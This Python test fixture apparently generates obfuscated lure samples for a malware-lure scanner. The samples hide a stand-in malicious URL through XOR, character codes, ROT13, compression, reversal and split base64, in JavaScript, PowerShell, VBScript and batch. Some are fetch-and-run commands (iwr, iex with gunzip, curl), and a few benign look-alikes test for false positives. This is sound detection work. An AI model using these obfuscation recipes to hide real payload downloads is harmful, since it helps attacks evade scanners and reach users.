"""Scripts as lures of 2025 and 2026 have them: their address is computed when they run."""

from __future__ import annotations

import codecs
import gzip
import zlib
from base64 import b64encode

from tests.scan_lures import DRAWN, EVIL, IN_BASE64, page

HOST = EVIL[8:24]
CODES = EVIL.encode()
TURNED = ".split('').reverse().join('')"


def by_xor(key: bytes) -> bytes:
    return bytes(one ^ key[at % len(key)] for at, one in enumerate(CODES))


def listed(separator: str = ",", plus: int = 0) -> str:
    return separator.join(str(one + plus) for one in CODES)


def in_base64(data: bytes | str) -> str:
    return b64encode(data.encode() if isinstance(data, str) else data).decode()


PIECES = [IN_BASE64[at : at + 6] for at in range(0, len(IN_BASE64), 6)]
LEADS: dict[str, bytes] = {
    "xor, a list": page(f"location={list(by_xor(b'!'))}.map(c=>String.fromCharCode(c^33)).join('')"),
    "xor, a loop": page(
        f"var d='{by_xor(b'Z').hex()}',s='';for(i=0;i<d.length;i+=2)s+=chr(parseInt(d.substr(i,2),16)^90)"
    ),
    "xor, base64": page(f"e=atob('{in_base64(by_xor(b'*'))}');for(c of e)o+=chr(c.charCodeAt(0)^42)"),
    "xor, a word": page(f"const k='secret',e=atob('{in_base64(by_xor(b'secret'))}')"),
    "xor, a word and pairs to sixteen": page(f'const k="9f2c", h="{by_xor(b"9f2c").hex()}"'),
    "xor, a drawing": (DRAWN % f"<script><![CDATA[d={list(by_xor(b'c'))}]]></script>").encode(),
    "xor, an attribute": (
        f"<html><i id=q data-v='{by_xor(b'|').hex()}'></i><script>h=q.dataset.v</script></html>".encode()
    ),
    "xor, PowerShell": b"$u=-join((%s)|%%{[char]($_ -bxor 5)}); iwr $u"
    % ",".join(map(str, by_xor(b"\5"))).encode(),
    "xor, VBScript": b'Set s = CreateObject("WScript.Shell")\r\nFor Each c In Array(%s)\r\nu = u & Chr(c Xor 5)\r\nNext'
    % ",".join(map(str, by_xor(b"\5"))).encode(),
    "a number more": page(f"location=[{listed(plus=7)}].map(c=>String.fromCharCode(c-7)).join('')"),
    "a number less": page(f"location='{listed(' ', -30)}'.split(' ').map(c=>String.fromCharCode(+c+30)).join('')"),
    "numbers of a text": page(f"location='{listed('|')}'.split('|').map(c=>String.fromCharCode(c)).join('')"),
    "numbers to sixteen of a text": page(f"a='{':'.join(f'{one:x}' for one in CODES)}'.split(':')"),
    "thirteen letters on": page(f"s='{codecs.encode(EVIL, 'rot13')}'.replace(/[a-z]/gi, turn)"),
    "packed": page(f"pako.inflate(Uint8Array.from(atob('{in_base64(zlib.compress(CODES))}'),c=>c.charCodeAt(0)))"),
    "packed without a head": page(f"inflate('{in_base64(zlib.compress(CODES + b' ' + CODES)[2:-4])}')"),
    "packed, PowerShell": b"iex (gunzip ([Convert]::FromBase64String('%s')))"
    % b64encode(gzip.compress(b"iwr '%s'" % CODES)),
    "turned round behind its scheme": page(f"location='https://'+'{EVIL[8:][::-1]}'{TURNED}"),
    "turned round in base64": page(f"location=atob('{in_base64(EVIL[::-1])}'){TURNED}"),
    "a host in base64": page(f"location='https://'+atob('{in_base64(EVIL[8:])}')"),
    "base64 three times": page(f"a=atob(atob(atob('{in_base64(in_base64(IN_BASE64))}')))"),
    "base64 in pieces turned round": page(f"p={PIECES[::-1]};location=atob(p.reverse().join(''))"),
    "percents in base64": page(
        f"location=decodeURIComponent(atob('{in_base64(''.join(f'%{one:02x}' for one in CODES))}'))"
    ),
    "members": page(f"const a={{h:'{HOST}',p:'{EVIL[24:]}'}};location='https://'+a.h+a.p"),
    "elements": page(f"var _0x=['{EVIL[24:]}','https://','{HOST}'];location=_0x[1]+_0x[0x2]+_0x[0]"),
    "one behind the other": page(f"location='https://'.concat('{HOST}','{EVIL[24:]}')"),
    "another word": page(f"location='{EVIL.replace('tt', 'xx')}'.replace('xx', 'tt')"),
    "formatted, PowerShell": f"iwr ('{{1}}{{0}}{{2}}' -f '{HOST[:9]}','https://','{EVIL[17:]}') -OutFile a".encode(),
    "another word, PowerShell": f"iwr ('{EVIL.replace('tt', 'xx')}' -replace 'xx','tt') -OutFile a".encode(),
    "names of the command line": f"@echo off\r\nset a={EVIL[:12]}\r\nset b={EVIL[12:]}\r\ncurl %A%%b%\r\n".encode(),
    "parts of a name": f"@echo off\r\nset x=//:sptth\r\ncurl %x:~-1%%x:~6,1%%x:~-2,1%{EVIL[3:]}\r\n".encode(),
}  # fmt: skip
NOWHERE: dict[str, bytes] = {
    "a page that computes": page(
        "var a=[12,45,78,90,100,101,102,103,104,105,106];x=a.map(c=>c^3);y='k'+a[1]+b.c"
    ),
    "a picture in base64": page(
        f"i.src='data:image/png;base64,{in_base64(bytes(range(256)) * 9)}';k='secret'"
    ),
    "a drawing with many numbers": (
        DRAWN % f"<script>1</script><path d='M{' '.join(str(n * 7 % 300) for n in range(900))}'/>"
    ).encode(),
}
